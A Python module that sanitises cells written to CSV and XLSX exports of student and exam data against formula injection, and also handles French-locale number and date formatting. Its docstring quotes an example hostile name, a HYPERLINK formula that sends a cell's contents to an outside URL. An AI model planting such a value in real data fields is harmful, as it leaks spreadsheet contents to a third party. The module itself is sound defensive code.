"""Cells written to CSV and XLSX files: text that a spreadsheet would run as a formula is neutralised.

A student named ``=HYPERLINK("http://…"&D2;"clic")`` must reach the exam office as a name, not as a live formula
(CSV/formula injection, OWASP). The OWASP rule is applied to every text cell that any export writes: a text
starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single quote. Spreadsheets
then show it as text, and the quote survives a copy and paste or a re-export to CSV (an XLSX « string » type
alone would not: the exam office re-saving the file as CSV would bring the formula back to life).

Numbers (marks) are not text and are returned unchanged, so they stay numbers in XLSX.
"""

import csv
import datetime
import io
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from decimal import Decimal
from typing import Any

from openpyxl import Workbook
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# Spreadsheets skip leading spaces (and LibreOffice may trim them) before deciding that a cell is a formula.
_AFTER_SPACES = ("=", "+", "-", "@")


def is_formula_like(value: str) -> bool:
    return value.startswith(FORMULA_PREFIXES) or value.lstrip(" \u00a0\n").startswith(_AFTER_SPACES)


def safe_cell(value: Any) -> Any:
    """``value`` ready for a CSV or XLSX cell: formula-like text gets a leading ``'``; anything else unchanged."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def append_safe_row(sheet: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl sheet; text cells are always written as text, never as formulas.

    ``safe_cell`` already removes every leading ``=``; forcing the data type as well means that no text can ever be
    stored as a formula, whatever openpyxl's guess.
    """
    row = safe_row(values)
    sheet.append(row)
    for cell, value in zip(sheet[sheet.max_row], row, strict=False):
        if isinstance(value, str):
            cell.data_type = "s"


# --- Whole files: one list of rows, two formats -------------------------------------------------------------------
#
# CSV is what French Excel opens: UTF-8 with a BOM, semicolons, CRLF, dates as « 31/01/2027 » and a decimal comma.
# XLSX keeps dates as dates and numbers as numbers, with a bold frozen header row and column widths.


@dataclass(frozen=True)
class Sheet:
    title: str  # at most 31 characters, no []:*?/\ (Excel's rule)
    header: Sequence[str]
    rows: Iterable[Sequence[Any]]
    widths: Sequence[int] = ()  # per column; missing ones get DEFAULT_WIDTH
    # The first columns kept in view when scrolling sideways (names in a wide table).
    frozen_columns: int = 0


DEFAULT_WIDTH = 14
DATE_FORMAT = "DD/MM/YYYY"


def csv_text(value: Any) -> str:
    """A cell as French Excel reads it: « 31/01/2027 », « 12,5 », « 3 »; None is an empty cell."""
    if value is None:
        return ""
    if isinstance(value, datetime.datetime | datetime.date):
        return f"{value.day:02d}/{value.month:02d}/{value.year:04d}"
    if isinstance(value, bool):
        return "oui" if value else "non"
    if isinstance(value, Decimal | float):
        number = Decimal(str(value))
        if number == number.to_integral():
            return str(int(number))
        return f"{number.normalize():f}".replace(".", ",")
    return str(value)


def csv_bytes(sheet: Sheet) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerow(safe_row(sheet.header))
    for row in sheet.rows:
        writer.writerow([csv_text(cell) for cell in safe_row(row)])
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")


def _xlsx_value(value: Any) -> Any:
    if isinstance(value, Decimal):
        return float(value)
    if isinstance(value, bool):
        return "oui" if value else "non"
    return value


def _fill(worksheet: Any, sheet: Sheet) -> None:
    worksheet.title = sheet.title[:31]
    append_safe_row(worksheet, sheet.header)
    for cell in worksheet[1]:
        cell.font = Font(bold=True)
        cell.alignment = Alignment(wrap_text=True, vertical="top")
    for row in sheet.rows:
        append_safe_row(worksheet, [_xlsx_value(value) for value in row])
        for cell in worksheet[worksheet.max_row]:
            if isinstance(cell.value, datetime.date):
                cell.number_format = DATE_FORMAT
    for index in range(1, len(sheet.header) + 1):
        width = sheet.widths[index - 1] if index <= len(sheet.widths) else DEFAULT_WIDTH
        worksheet.column_dimensions[get_column_letter(index)].width = width
    worksheet.freeze_panes = f"{get_column_letter(sheet.frozen_columns + 1)}2"


def xlsx_bytes(*sheets: Sheet) -> bytes:
    """One workbook, one worksheet per ``Sheet`` (the first is the one that opens)."""
    workbook = Workbook()
    _fill(workbook.active, sheets[0])
    for sheet in sheets[1:]:
        _fill(workbook.create_sheet(), sheet)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
